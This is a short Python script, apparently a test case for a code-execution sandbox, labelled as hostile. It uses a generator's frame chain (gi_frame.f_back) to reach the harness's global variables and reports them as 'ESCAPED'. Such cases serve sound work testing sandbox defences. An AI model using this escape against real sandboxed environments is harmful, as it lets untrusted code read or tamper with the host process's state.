# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: a running generator's gi_frame.f_back.f_globals
# naive exec: escapes: a generator frame links back to the harness's frames
def spy():
    yield gen.gi_frame.f_back.f_back


gen = spy()
outer = next(gen)
result = "ESCAPED " + str(sorted(outer.f_globals)[:5])
